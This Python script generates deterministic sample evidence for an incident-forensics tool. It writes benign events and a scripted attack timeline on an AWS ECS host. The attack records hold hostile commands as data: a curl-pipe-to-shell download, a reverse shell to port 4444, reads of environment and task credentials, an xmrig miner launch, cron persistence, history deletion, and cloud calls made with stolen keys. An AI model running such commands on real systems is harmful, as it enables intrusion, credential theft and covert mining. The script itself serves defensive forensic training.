#!/usr/bin/env python3
"""Generate backsight's bundled sample evidence, deterministically.

usage: samples/generate.py [OUTDIR]        (default: evidence/ beside this script)

The story (see README.md): a web application in an ECS task on an EC2 container instance is
exploited; the attacker runs commands through a shell spawned by the web server, reads the
task's credentials from the ECS credential endpoint, and uses them from outside AWS. Until the
importers for the native formats land, the evidence is written in backsight's own timeline
format (timeline-jsonl); the same script will write pcap, auditd, strace, .scap and CloudTrail
files as their importers arrive. Same script, same bytes: nothing here reads the clock or a
random source without a fixed seed.
"""
import json
import os
import random
import sys

T0 = 1795399800  # 2026-11-23T02:10:00Z
HOST = "ip-10-0-1-23.ec2.internal"
TASK = "0f3c9a1e5b7d4c2a8e6f1b3d5c7a9e0f"
ACCOUNT = "111122223333"
KEY = "ASIAQNZGKEXAMPLE7STL"
ATTACKER = "203.0.113.50"


def event(offset_us, source, etype, summary, **columns):
    """An event `offset_us` microseconds after T0 (integers only: no float rounding in times)."""
    rec = {"ts_ns": T0 * 1_000_000_000 + offset_us * 1000, "ts_precision": 1000, "source": source, "type": etype,
           "host": columns.pop("host", HOST), "summary": summary}
    fields = columns.pop("fields", None)
    rec.update(columns)
    if fields:
        rec["fields"] = fields
    return rec


def benign(rng, events):
    """Health checks, package updates and the application's own AWS calls, all through the hour."""
    for i in range(240):
        ts = i * 15_000_000 + rng.randrange(1_000_000)
        events.append(event(ts, "network", "http", "GET /healthz 200 from 10.0.0.5", l4proto="tcp",
                            src_ip="10.0.0.5", src_port=40000 + i, dst_ip="10.0.1.23", dst_port=8080,
                            result="200", fields={"http.method": "GET", "http.uri": "/healthz"}))
    for i in range(60):
        ts = i * 60_000_000 + 7_500_000
        events.append(event(ts, "aws_cloudtrail", "GetObject", "GetObject s3://app-assets/logo.png by task role",
                            host=ACCOUNT, principal=f"arn:aws:sts::{ACCOUNT}:assumed-role/web-task/{TASK}",
                            access_key_id=KEY, src_ip="10.0.1.23", user_agent="aws-sdk-go/1.44.0",
                            result="success", fields={"ct.request.bucketName": "app-assets"}))
    events.append(event(30_000_000, "syscall", "execve", "execve /usr/bin/apt-get update (cron)", pid=3100,
                        ppid=1, uid=0, user_name="root", proc_name="apt-get", exe="/usr/bin/apt-get",
                        cmdline="apt-get update", cwd="/"))


def attack(events):
    """The attacker's hour, step by step."""
    steps = [
        (300, "network", "http", "POST /upload.php from 198.51.100.7 (exploit)",
         dict(l4proto="tcp", src_ip="198.51.100.7", src_port=51514, dst_ip="10.0.1.23", dst_port=8080, result="200")),
        (301, "syscall", "execve", "execve /bin/sh -c 'curl -s http://198.51.100.7/x.sh | sh' by php-fpm",
         dict(pid=4242, ppid=812, uid=33, user_name="www-data", proc_name="sh", exe="/bin/sh",
              cmdline="sh -c curl -s http://198.51.100.7/x.sh | sh", cwd="/var/www/html")),
        (302, "syscall", "execve", "execve /usr/bin/curl -s http://198.51.100.7/x.sh",
         dict(pid=4243, ppid=4242, uid=33, user_name="www-data", proc_name="curl", exe="/usr/bin/curl",
              cmdline="curl -s http://198.51.100.7/x.sh", cwd="/var/www/html")),
        (305, "syscall", "openat", "openat /tmp/.x/kworker O_WRONLY|O_CREAT",
         dict(pid=4244, ppid=4242, uid=33, proc_name="sh", exe="/bin/sh", fd_name="/tmp/.x/kworker",
              fields={"evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC"})),
        (309, "syscall", "connect", "connect 10.0.1.23:46122 -> 198.51.100.7:4444 by kworker",
         dict(pid=4250, ppid=4244, uid=33, proc_name="kworker", exe="/tmp/.x/kworker", l4proto="tcp",
              src_ip="10.0.1.23", src_port=46122, dst_ip="198.51.100.7", dst_port=4444, result="0")),
        (310, "syscall", "dup2", "dup2 socket onto stdin/stdout/stderr, then /bin/sh -i",
         dict(pid=4250, ppid=4244, uid=33, proc_name="kworker", exe="/tmp/.x/kworker",
              fd_name="10.0.1.23:46122->198.51.100.7:4444")),
        (420, "syscall", "execve", "execve id; uname -a; cat /proc/self/environ (recon)",
         dict(pid=4301, ppid=4250, uid=33, proc_name="cat", exe="/usr/bin/cat", cmdline="cat /proc/self/environ")),
        (480, "network", "http", "GET http://169.254.170.2/v2/credentials/... 200 (task credentials)",
         dict(l4proto="tcp", src_ip="10.0.1.23", src_port=46200, dst_ip="169.254.170.2", dst_port=80,
              access_key_id=KEY, result="200", fields={"http.host": "169.254.170.2"})),
        (600, "network", "dns", "dns query pool.supportxmr.com A -> 141.94.96.144",
         dict(l4proto="udp", src_ip="10.0.1.23", src_port=53001, dst_ip="10.0.0.2", dst_port=53, result="NOERROR",
              fields={"dns.query": "pool.supportxmr.com"})),
        (605, "syscall", "execve", "execve /tmp/.x/xmrig -o pool.supportxmr.com:443",
         dict(pid=4400, ppid=4250, uid=33, proc_name="xmrig", exe="/tmp/.x/xmrig",
              cmdline="xmrig -o pool.supportxmr.com:443 --donate-level 1")),
        (900, "syscall", "openat", "openat /etc/cron.d/sync O_WRONLY|O_CREAT (persistence)",
         dict(pid=4500, ppid=4250, uid=0, proc_name="sh", exe="/bin/sh", fd_name="/etc/cron.d/sync")),
        (910, "syscall", "unlinkat", "unlink /root/.bash_history",
         dict(pid=4501, ppid=4250, uid=0, proc_name="rm", exe="/usr/bin/rm", fd_name="/root/.bash_history")),
    ]
    for offset, source, etype, summary, cols in steps:
        events.append(event(offset * 1_000_000, source, etype, summary, **cols))
    cloud = ["GetCallerIdentity", "ListBuckets", "GetObject", "CreateUser", "CreateAccessKey", "StopLogging"]
    for i, name in enumerate(cloud):
        events.append(event((1500 + i * 40) * 1_000_000, "aws_cloudtrail", name, f"{name} by {KEY} from {ATTACKER}",
                            host=ACCOUNT, principal=f"arn:aws:sts::{ACCOUNT}:assumed-role/web-task/{TASK}",
                            access_key_id=KEY, src_ip=ATTACKER, user_agent="aws-cli/2.15.0 Python/3.11.6",
                            result="success"))


def main() -> None:
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "evidence")
    os.makedirs(outdir, exist_ok=True)
    rng = random.Random(20261123)
    events = []
    benign(rng, events)
    attack(events)
    events.sort(key=lambda e: (e["ts_ns"], e["source"], e["summary"]))
    with open(os.path.join(outdir, "incident-timeline.jsonl"), "w", encoding="utf-8") as f:
        for e in events:
            f.write(json.dumps(e, sort_keys=True, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
